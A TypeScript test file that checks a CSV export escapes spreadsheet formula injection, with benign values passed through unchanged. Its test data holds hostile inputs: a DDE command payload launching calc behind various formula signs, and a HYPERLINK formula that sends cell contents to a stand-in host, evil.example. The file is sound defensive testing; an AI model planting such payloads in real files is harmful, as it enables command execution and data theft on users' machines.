import { text } from 'node:stream/consumers';
import { expect, it } from 'vitest';
import { exported } from './export.ts';

const csvOf = async (...cells: (string | number)[]) => {
  const { body } = exported(
    'csv',
    'x',
    ['id', 'said'],
    cells.map((said) => ({ id: 'conv_1', said })),
  );
  return (await text(body as NodeJS.ReadableStream)).split('\r\n').slice(1, -1);
};

/** As spreadsheets divide a line in countries with a decimal comma, where quotes within a cell are only that. */
const elsewhere = (line: string) => line.split(/[;\t\r\n]/);

const COMMAND = "cmd|' /C calc'!A0";

it.each([
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠'].map((sign) => sign + COMMAND),
  ...['\t=', '\r=', '\n=', '\n\t=', 'a;=', 'a;b;+', 'a\t-', 'a\n@', 'a;\n=', ';='].map((start) => start + COMMAND),
  `=HYPERLINK("https://evil.example/?"&A1,"x")`,
  `a,=${COMMAND}`,
  `";=${COMMAND};"`,
])('%j begins no formula', async (said) => {
  const [line = ''] = await csvOf(said);
  const [, cell = ''] = /^conv_1,(.*)$/s.exec(line) ?? [];
  const here = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
  expect(here).not.toMatch(/^[=+\-@＝＋－＠\t\r\n]/);
  for (const part of elsewhere(line)) expect(part).not.toMatch(/^[=+\-@＝＋－＠]/);
});

it('what is no formula is left as it is', async () => {
  for (const said of ['Hello', 'a = b', '3-4 people', 'me@example.com', 'Öl & Brot', '5', ''])
    expect(await csvOf(said)).toEqual([`conv_1,${said}`]);
  expect(await csvOf(-5)).toEqual(['conv_1,-5']);
  expect(await csvOf('say "hi", please')).toEqual(['conv_1,"say ""hi"", please"']);
});
